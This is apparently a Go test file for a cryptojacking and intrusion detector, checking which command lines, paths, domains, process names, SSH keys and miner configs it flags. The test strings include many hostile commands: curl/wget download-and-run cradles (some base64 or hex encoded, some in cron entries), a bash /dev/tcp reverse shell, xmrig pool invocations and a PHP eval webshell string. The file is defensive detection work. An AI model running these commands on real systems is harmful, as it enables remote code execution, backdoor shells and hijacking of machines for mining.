package match

import (
	"bytes"
	"context"
	"encoding/base64"
	"strings"
	"testing"
)

// A wallet made for the tests: network byte 0x12, keys of zero bytes and a right checksum (see TestMoneroKinds).
var testWallet = moneroFor(0x12, 64)

// TestTextFinds are lines that must be found, with the least strength and the rule.
func TestTextFinds(t *testing.T) {
	s := shipped(t)
	hidden := base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://198.51.100.7/init.sh | bash\n"))
	twice := base64.StdEncoding.EncodeToString([]byte("echo " + hidden + " | base64 -d | bash\n"))
	for _, c := range []struct {
		text string
		rule string
		min  Strength
	}{
		{"/opt/sysetmd --donate-level 1 -o pool.supportxmr.com:443 -u " + testWallet, "text/miner-options", Strong},
		{"./x -o stratum+tcp://192.0.2.9:3333 -u " + testWallet + ".w1 -p x", "text/wallet-with-pool", Proof},
		{"ExecStart=/opt/sysetmd", "ioc/path", Strong},
		{"ExecStart=-/usr/bin/env A=1 /tmp/kdevtmpfsi", "ioc/path", Strong},
		{"*/5 * * * * root (curl -fsSL http://198.51.100.7/a.sh || wget -q -O- http://198.51.100.7/a.sh) | bash", "text/cradle", Strong},
		{"*/10 * * * * (wget -q -O - http://198.51.100.7/unk.sh|sh)", "text/cradle", Strong},
		{"* * * * * wget -q -O - http://198.51.100.7/x | sh > /dev/null 2>&1", "text/cradle", Strong},
		{"torsocks wget -q -O - http://198.51.100.7/x | sh", "text/cradle", Strong},
		{"unshare -m proxychains4 -q curl http://198.51.100.7/x | sh", "text/cradle", Strong},
		{"chrt -i 0 eval curl http://198.51.100.7/x | sh", "text/cradle", Strong},
		{"@reboot curl -s https://pastebin.com/raw/abc123 | sh", "text/cradle", Strong},
		{"bash -c \"$(curl -fsSL http://203.0.113.4/x)\"", "text/cradle", Strong},
		{"bash <(curl -s http://203.0.113.4/x)", "text/cradle", Strong},
		{"curl -o /tmp/x http://203.0.113.4/x; chmod +x /tmp/x; /tmp/x", "text/cradle", Strong},
		{"wget http://203.0.113.4/kk -O /var/tmp/kk && chmod 777 /var/tmp/kk && /var/tmp/kk", "text/cradle", Strong},
		{"cd1 -fsSL http://oracle.zzhreceive.top/b2f628/b.sh | bash", "text/cradle", Strong},
		{"python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.4/p').read())\"", "text/cradle", Strong},
		{"bash -i >& /dev/tcp/203.0.113.4/4444 0>&1", "text/dev-tcp", Strong},
		{"echo " + hidden + " | base64 -d | sh", "text/cradle", Strong},
		{"echo " + twice + "|base64 -d|sh", "text/cradle", Strong},
		{"x=$(printf '" + hexed("curl http://203.0.113.4/a|sh   ") + "')", "text/cradle", Strong},
		{"./miner --url xmr.2miners.com --user a", "ioc/domain", Strong},
		{"xmrig --coin=monero -o x", "text/miner-options", Strong},
		{"./a -a rx/0 -o 192.0.2.3:443", "text/miner-options", Strong},
		{"echo LS1kb25hdGUtbGV2ZWwgMQ", "ioc/encoded", Strong},
		{"curl http://example.com/i.sh | sh", "text/cradle", Weak},
		{"curl -fsSL https://get.docker.com | sh", "text/cradle", Info},
	} {
		hits := s.Text(c.text)
		best, found := Info, false
		for _, h := range hits {
			if h.Rule == c.rule {
				found = true
				best = max(best, h.Strength)
			}
		}
		if !found || best < c.min || c.min < Strong && best > c.min {
			t.Errorf("Text(%.100q) = %s, want %s of strength %s", c.text, show(hits), c.rule, c.min)
		}
	}
}

func hexed(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString(`\x` + string("0123456789abcdef"[s[i]>>4]) + string("0123456789abcdef"[s[i]&15]))
	}
	return b.String()
}

func show(hits []Hit) string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Rule+"/"+h.Strength.String()+"("+h.Meta["value"]+h.Meta["options"]+")")
	}
	return "[" + strings.Join(out, " ") + "]"
}

// TestTextGuards are lines of legitimate software and of responders: nothing above weak may come of them, and nothing at all where max is "none".
func TestTextGuards(t *testing.T) {
	s := shipped(t)
	for _, text := range []string{
		"grep -r \"stratum+tcp\" /etc",
		"grep -r stratum+tcp://pool.minexmr.com:4444 /etc",
		"pgrep -f xmrig",
		"ps aux | grep kdevtmpfsi",
		"grep -rlE \"\\-\\-donate\\-level|xmrig|\\/opt\\/sysetmd\" /etc/systemd/system/*",
		"grep -rlE \\-\\-donate\\-level|xmrig|/opt/sysetmd /etc/systemd/system",
		"bash -c \"grep xmrig /var/log/syslog\"",
		"ssh host 'ps aux | grep xmrig'",
		"sh -c ps -aux | grep sysetmd",
		"rm -f /opt/sysetmd /root/xmrig-6.21.1/xmrig",
		"rm -rf /tmp/kinsing /tmp/kdevtmpfsi; pkill -9 kinsing; killall kdevtmpfsi",
		"ps aux | grep -v grep | grep 'xmrig --donate-level' | awk '{print $2}' | xargs -I % kill -9 %",
		"pkill -f \"stratum+tcp://pool.minexmr.com:4444\"",
		"chattr -i /tmp/kdevtmpfsi && rm /tmp/kdevtmpfsi",
		"systemctl status sshd",
		"gcc -o pool.o pool.c",
		"cc -c -o pool.o pool.c -ftime-report",
		"ld -o pool pool.o",
		"zpool import -c /etc/zfs/zpool.cache",
		"ExecStart=/sbin/zpool import -aN -d /dev/disk/by-id -o cachefile=none",
		"server 0.pool.ntp.org iburst",
		"pool.ntp.org",
		"ntpdate -u pool.ntp.org:123",
		"0.0.0.0 pool.minexmr.com",
		"127.0.0.1 xmr.2miners.com supportxmr.com",
		"0.0.0.0 coinhive.com",
		"# stratum+tcp://pool.minexmr.com:4444 is what we saw; curl http://198.51.100.7/x | sh",
		"curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid",
		"*/5 * * * * www-data wget -q -O - https://site.example/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
		"0 3 * * * root certbot renew --quiet",
		"eval \"$(ssh-agent -s)\"",
		"eval \"$(conda shell.bash hook)\"",
		"curl -s https://example.org/api | jq .",
		"curl -s https://example.org/api | python3 -m json.tool",
		"curl -s https://example.org/data | python3 -c 'import sys,json; print(json.load(sys.stdin)[0])'",
		"iptables -A OUTPUT -d pool.minexmr.com -j DROP",
		"dig pool.supportxmr.com",
		"sysbench cpu --threads=8 run",
		"pip install --no-color --retries 5 foo",
		"tracker-miner-fs-3",
		"tar -t -k -B",
		"psql -h dbpool.example.com:5432 -U app",
		"vim /root/c3pool.txt",
		"java -Xmx3g -jar app.jar --pool.size=10",
		"journalctl -u xmrig.service",
		"docker run -d --name web nginx:1.27",
	} {
		for _, h := range s.Text(text) {
			if h.Strength > Weak {
				t.Errorf("Text(%q) = %s, want nothing above weak", text, show([]Hit{h}))
			}
		}
	}
	for _, text := range []string{"pool.ntp.org", "server 0.pool.ntp.org iburst", "gcc -o pool.o pool.c", "pgrep -f xmrig", "0.0.0.0 pool.minexmr.com", "eval \"$(ssh-agent -s)\"", "tracker-miner-fs-3"} {
		if hits := s.Text(text); len(hits) > 0 {
			t.Errorf("Text(%q) = %s, want nothing", text, show(hits))
		}
	}
}

// TestArgvGuards: the same for argument vectors, where no shell quoting is left.
func TestArgvGuards(t *testing.T) {
	s := shipped(t)
	quiet := [][]string{
		{"grep", "-rlE", "--donate-level|xmrig|/opt/sysetmd", "/etc/systemd/system"},
		{"/usr/bin/pgrep", "-f", "stratum+tcp://pool.minexmr.com:4444"},
		{"sh", "-c", "ps aux | grep -E 'xmrig|kinsing' | wc -l"},
		{"rg", "curl http://198.51.100.7/x | sh", "."},
	}
	for _, argv := range quiet {
		for _, h := range s.Argv(argv) {
			if h.Strength > Weak {
				t.Errorf("Argv(%q) = %s", argv, show([]Hit{h}))
			}
		}
	}
	loud := [][]string{
		{"/tmp/x", "-o", "stratum+tcp://192.0.2.1:3333"},
		{"sh", "-c", "curl -s http://198.51.100.7/x | sh"},
		{"kswapd0", "--donate-level=1"},
	}
	for _, argv := range loud {
		if best := strongest(s.Argv(argv)); len(best) == 0 || best[0].Strength < Strong {
			t.Errorf("Argv(%q) = %s, want something strong", argv, show(best))
		}
	}
}

// TestNeverNames: names that no list may match, and label boundaries.
func TestNeverNames(t *testing.T) {
	s := shipped(t)
	for _, name := range []string{"pool.ntp.org", "0.debian.pool.ntp.org", "us.pool.ntp.org", "zpool.cache", "xmrpool.example.org", "not2miners.com", "2miners.com.example.org", "hashicorp.com", "api.example.com", "connectionpool", "", "."} {
		if h := s.Domain(name); len(h) > 0 {
			t.Errorf("Domain(%q) = %s, want nothing", name, show(h))
		}
	}
	for _, name := range []string{"2miners.com", "XMR.2MINERS.COM.", "gulf.moneroocean.stream"} {
		if h := s.Domain(name); len(h) != 1 || h[0].Strength != Strong {
			t.Errorf("Domain(%q) = %s, want one strong hit", name, show(h))
		}
	}
}

func TestProcessNames(t *testing.T) {
	s := shipped(t)
	for _, name := range []string{"tracker-miner-fs-3", "data-miner", "minecraft", "java", "localsearch-miner", "xmrigger"} {
		for _, h := range s.ProcessName(name) {
			if h.Strength > Weak {
				t.Errorf("ProcessName(%q) = %s", name, show([]Hit{h}))
			}
		}
	}
	if h := s.ProcessName("/tmp/KDEVTMPFSI (deleted)"); len(h) != 1 || h[0].Family != "Kinsing" {
		t.Errorf("kdevtmpfsi: %s", show(h))
	}
	if h := s.ProcessName("kswapd0"); len(h) != 1 || h[0].Rule != "ioc/masquerade" || h[0].Strength > Weak {
		t.Errorf("kswapd0: %s", show(h))
	}
}

func TestPaths(t *testing.T) {
	s := shipped(t)
	homes := []string{"/root", "/home/anna"}
	for name, want := range map[string]bool{
		"/tmp/kinsing": true, "/tmp/kdevtmpfsi123": true, "/opt/sysetmd": true, "/home/anna/c3pool/xmrig": true, "/home/anna/.configrc5/a/kswapd0": true, "/etc/cron.daily/pwnrig": true,
		"/home/bob/c3pool/xmrig": false, "/opt/sysetmd2": false, "/tmp/x/kinsing": false, "/etc/passwd": false, "/": false, "": false, "/tmp/.perf.c/perfctl": true,
		"/var/lib/docker/overlay2/0a1b/diff/tmp/kinsing": true, "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs/tmp/kdevtmpfsi": true, "/var/lib/docker/overlay2/0a1b/diff/etc/passwd": false,
	} {
		h := s.Path(name, homes)
		if got := len(h) > 0 && h[0].Strength >= Strong; got != want {
			t.Errorf("Path(%q) = %s, want %v", name, show(h), want)
		}
	}
}

func TestKeys(t *testing.T) {
	s := shipped(t)
	if h := s.Key("ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1more mdrfckr"); len(h) != 2 || h[0].Strength != Proof {
		t.Errorf("known key: %s", show(h))
	}
	if h := s.Key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl anna@laptop"); len(h) > 0 {
		t.Errorf("unknown key: %s", show(h))
	}
}

func fileHits(t *testing.T, s *Set, text string) []Hit {
	t.Helper()
	h, err := s.File(context.Background(), bytes.NewReader([]byte(text)), int64(len(text)))
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// TestFileGuards: files that describe mining, or kill miners, must stay below strong.
func TestFileGuards(t *testing.T) {
	s := shipped(t)
	block := "# ad block\n"
	for _, d := range []string{"2miners.com", "minexmr.com", "coinhive.com", "nanopool.org", "supportxmr.com", "hashvault.pro"} {
		block += "0.0.0.0 pool." + d + "\n"
	}
	kill := "#!/bin/sh\n# written by a responder\nfor p in kinsing kdevtmpfsi xmrig sysetmd watchbog kerberods; do\n  pkill -9 -f $p\ndone\nrm -rf /tmp/kinsing /tmp/kdevtmpfsi /opt/sysetmd\nchattr -i /etc/ld.so.preload\nps aux | grep -v grep | grep 'minerd\\|xmrig\\|stratum+tcp://' | awk '{print $2}' | xargs kill -9\n"
	for name, text := range map[string]string{
		"hosts file that blocks pools": block,
		"kill script":                  kill,
		"yara rules":                   "rule x {\n strings:\n  $a = \"stratum+tcp://pool.minexmr.com:4444\"\n  $b = \"<?php eval($_POST[1]);\"\n condition: any of them }\n",
		"sigma rule":                   "title: x\nlogsource:\n  product: linux\ndetection:\n  a:\n    CommandLine|contains: 'curl http://198.51.100.7/x | sh'\n  condition: a\n",
		"connection pool":              `{"pools":[{"url":"jdbc:postgresql://db/x","user":"app","pass":"x"}],"cpu":4,"threads":8,"autosave":true,"api":{"port":1},"algo":"md5"}`,
		"database dump":                "INSERT INTO wallets VALUES ('" + testWallet + "');\n",
		"shell history":                "ls\ntop -c\ngrep -rlE '\\-\\-donate\\-level|xmrig' /etc/systemd/system/*\ncat .ssh/authorized_keys\n",
	} {
		for _, h := range fileHits(t, s, text) {
			if h.Strength > Weak {
				t.Errorf("%s: %s %q", name, show([]Hit{h}), h.Excerpt)
			}
		}
	}
}

func TestConfigRecognizer(t *testing.T) {
	s := shipped(t)
	cfg := `// made for a test
{"autosave":true,"donate-level":1,"cpu":{"huge-pages":true,"max-threads-hint":50},"randomx":{"1gb-pages":false},"pools":[{"url":"192.0.2.1:3333","user":"` + testWallet + `.x","rig-id":null}]}`
	h := fileHits(t, s, cfg)
	best := strongest(h)
	if len(best) == 0 || best[0].Strength != Proof {
		t.Fatalf("config with wallet: %s", show(h))
	}
	got, ok := s.MinerConfig([]byte(cfg))
	if !ok || len(got.Keys) < 5 || len(got.Pools) != 1 || got.Pools[0] != "192.0.2.1:3333" {
		t.Errorf("MinerConfig = %+v, %v", got, ok)
	}
	three := `{"donate-level":1,"randomx":{},"huge-pages":true,"url":"x","user":"y","pass":"z","algo":"a","threads":1}`
	if got, ok := s.MinerConfig([]byte(three)); ok {
		t.Errorf("three miner keys: %+v", got)
	}
	paid := `{"donate-level":0,"cpu":{"threads":2},"pools":[{"coin":"monero","url":"192.0.2.1:5555","user":"` + testWallet + `","pass":"x"}]}`
	if _, ok := s.MinerConfig([]byte(paid)); !ok {
		t.Errorf("two miner keys beside a pool and a payout address were passed over")
	}
	unpaid := strings.Replace(paid, testWallet, "shop", 1)
	if got, ok := s.MinerConfig([]byte(unpaid)); ok {
		t.Errorf("two miner keys without an address: %+v", got)
	}
	spread := `{"donate-level":1}` + "\n" + `{"randomx":1}` + "\n" + `{"huge-pages":1}` + "\n" + `{"rig-id":1}`
	if got, ok := s.MinerConfig([]byte(spread)); ok {
		t.Errorf("keys of four objects: %+v", got)
	}
	if _, ok := s.MinerConfig([]byte(strings.Repeat("[", 1<<19) + cfg)); !ok {
		t.Errorf("deep nesting hides the keys")
	}
}

// TestScannersAreLowered: a file with the strings of many families, as scanners and this program carry them, is no strong evidence.
func TestScannersAreLowered(t *testing.T) {
	s := shipped(t)
	elf := "\x7fELF\x02\x01\x01\n"
	kinsing := "main.redisBrute\nmain.masscan\nActiveC2CUrl\n"
	tsunami := "NOTICE %s :Unable to comply.\nNOTICE %s :GET <host> <save as>\n"
	lkm := "vermagic=6.1\nhacked_getdents\nis_invisible\n"
	xor := "BB2FA36AAA9541F0\n/var/run/gcc.pid\n"
	for text, want := range map[string]Strength{elf + kinsing: Strong, elf + kinsing + tsunami: Strong, elf + kinsing + tsunami + lkm + xor: Weak} {
		best := strongest(fileHits(t, s, text))
		if len(best) == 0 || best[0].Strength != want {
			t.Errorf("%q: %s, want %s", text, show(best), want)
		}
	}
}

// TestProse: a report or manual page that speaks of malware starts nothing.
func TestProse(t *testing.T) {
	s := shipped(t)
	for _, h := range s.Text("Notes\nkinsing is a watchdog that restarts the miner\nwalker was plugged\nkdevtmpfsi burns CPU\n") {
		if h.Strength > Weak {
			t.Errorf("prose: %s", show([]Hit{h}))
		}
	}
}
